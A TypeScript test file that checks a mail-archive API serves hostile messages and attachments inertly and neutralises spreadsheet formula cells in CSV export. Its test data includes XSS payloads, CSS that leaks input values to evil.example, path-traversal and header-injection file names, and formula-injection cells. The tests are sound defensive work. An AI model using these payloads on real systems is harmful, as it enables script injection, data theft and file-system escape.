import fc from 'fast-check';
import { activity, at, link } from '@foldwatch/ports/testing';
import { describeApi } from '../describe-api';
import { csvLine } from '../imports/csv';
import { openGateway, type OpenGateway } from '../../testing/open-gateway';
import { save } from '../../testing/play-writer';

let gateway: OpenGateway;
let mails = 0;
beforeAll(async () => {
  gateway = await openGateway();
});
afterAll(() => gateway.close());

const script = '<script>alert(1)</script>';
const leakingStyle =
  '<style>@import url(//evil.example/x.css); input[value^=a]{background:url(//evil.example/a)}</style>';

async function mailWith(given: { subject?: string; name?: string; body?: string; attachment?: string; type?: string }) {
  const { subject = '', name = '', body = '', attachment = 'a.txt', type = 'text/plain' } = given;
  const { ref: bodyRef } = await gateway.stores.contentStore.put(Buffer.from(body));
  const file = { name: attachment, contentType: type, sizeBytes: body.length, contentRef: bodyRef };
  const current = {
    hash: 'h',
    sizeBytes: 1,
    bodyType: 'html',
    bodyRef,
    attachments: [file],
    fetchedAt: at(0),
  } as const;
  const id = `mail-${(mails += 1)}`.padEnd(8, '-');
  const message = { subject, from: { address: 'buyer@fabrikam.example', name } };
  const content = { state: 'stored', current, earlier: [] } as const;
  await save(gateway.stores, activity(id, { message, content, links: [link('m-erin', ['f-1'])] }));
  return `/api/v1/activities/${id}`;
}

const isInert = (headers: Record<string, string>): boolean =>
  headers['x-content-type-options'] === 'nosniff' &&
  headers['content-disposition']?.startsWith('attachment; ') === true &&
  headers['content-security-policy'] === "default-src 'none'; sandbox; frame-ancestors 'none'";

describe('mail that tries something', () => {
  it.each([script, leakingStyle, '"><img src=x onerror=alert(1)>', '\u2028alert(1)//', '=HYPERLINK("//evil.example")'])(
    'by its subject and by names is told as JSON, which no browser takes for a page: %j',
    async (text) => {
      const { headers, body } = await gateway.as('get', await mailWith({ subject: text, name: text })).expect(200);
      expect([body.subject, body.from.name]).toEqual([text, text]);
      expect(headers).toMatchObject({
        'content-type': 'application/json; charset=utf-8',
        'x-content-type-options': 'nosniff',
        'content-security-policy': expect.stringContaining("script-src 'self'"),
      });
    },
  );

  it.each([script, leakingStyle, '<form action=//evil.example><input name=q></form>', '<iframe srcdoc="x">'])(
    'by its body is a download in a sandbox of its own: %s',
    async (body) => {
      const { headers, text } = await gateway.as('get', `${await mailWith({ body })}/content`).expect(200);
      expect([text, isInert(headers)]).toEqual([body, true]);
    },
  );

  it.each([
    'text/html',
    'IMAGE/SVG+XML',
    'application/xhtml+xml',
    'text/javascript',
    'application/pdf',
    'text/html;x',
    'x\r\ny',
  ])('by the type %j of an attachment is bytes', async (type) => {
    const { headers } = await gateway.as('get', `${await mailWith({ type })}/attachments/0`).expect(200);
    expect([headers['content-type'], isInert(headers)]).toEqual(['application/octet-stream', true]);
  });

  it.each([
    { attachment: '../../etc/passwd', saved: '__.._etc_passwd' },
    { attachment: '..\\..\\windows\\system32\\x.dll', saved: '__.._windows_system32_x.dll' },
    { attachment: '..', saved: '_' },
    { attachment: '.bashrc', saved: '_bashrc' },
    { attachment: 'a"; filename="evil.exe', saved: 'a_; filename=_evil.exe' },
    { attachment: 'a\r\nset-cookie: x=1', saved: 'a__set-cookie: x=1' },
    { attachment: 'invoice\u202Efdp.exe', saved: 'invoice_fdp.exe' },
    { attachment: '%2e%2e%2fx', saved: '_2e_2e_2fx' },
  ])('by the name $attachment of an attachment is saved as $saved', async ({ attachment, saved }) => {
    const { headers } = await gateway.as('get', `${await mailWith({ attachment })}/attachments/0`).expect(200);
    expect(headers['content-disposition']).toContain(`attachment; filename="${saved}"; `);
    expect([headers['set-cookie'], isInert(headers)]).toEqual([undefined, true]);
  });

  it('never leaves the folder of downloads, whatever an attachment is called', async () => {
    const nasty = fc.string({
      unit: fc.constantFrom('.', '/', '\\', '"', '%', '\r', '\n', ';', '=', 'a', '\u202E', '\u0000', 'ü'),
    });
    await fc.assert(
      fc.asyncProperty(nasty, async (attachment) => {
        const { headers } = await gateway.as('get', `${await mailWith({ attachment })}/attachments/0`);
        const [, ascii = '!', encoded = '!'] =
          /^attachment; filename="([^"\\/\r\n]*)"; filename\*=UTF-8''([\w.%~-]*)$/.exec(
            headers['content-disposition'] ?? '',
          ) ?? [];
        return ![ascii, decodeURIComponent(encoded)].some((name) => /^\.|[\\/\r\n\0]|^!$/.test(name));
      }),
      { numRuns: 60 },
    );
  });
});

it('is put into no table of comma-separated values: those that are answered have only what administrators sent', () => {
  const { paths } = describeApi(gateway.app);
  const answering = Object.entries(paths).filter(([, methods]) => {
    const answers = Object.values(methods).map((method: { responses?: unknown }) => JSON.stringify(method.responses));
    return answers.some((text) => /text\/csv|spreadsheet|application\/vnd/.test(text));
  });
  expect(answering.map(([path]) => path).toSorted()).toEqual([
    '/api/v1/mailbox-imports/refused',
    '/api/v1/record-imports/refused',
  ]);
});

describe('a table that spreadsheets open', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(1)', '\t=1', 'a;=1+1', 'a\t=1+1', 'a"\n=1+1', `=HYPERLINK("//evil.example";"x")`])(
    'has no cell that is run, whichever delimiter is taken for its own: %j',
    (cell) => {
      for (const delimiter of [',', ';', '\t']) {
        const cells = cellsBy(delimiter, csvLine(['first', cell, 'last']));
        expect(cells.filter((one) => /^[=+\-@]/.test(one))).toEqual([]);
      }
    },
  );
});

/** As a spreadsheet of that delimiter cuts a line: quotes count where a cell begins with one. */
const cellsBy = (delimiter: string, line: string): readonly string[] =>
  [...line.matchAll(new RegExp(`(?:^|[${delimiter}\\r\\n])(?:"((?:[^"]|"")*)"|([^${delimiter}\\r\\n]*))`, 'g'))].map(
    ([, quoted, plain = '']) => quoted ?? plain,
  );
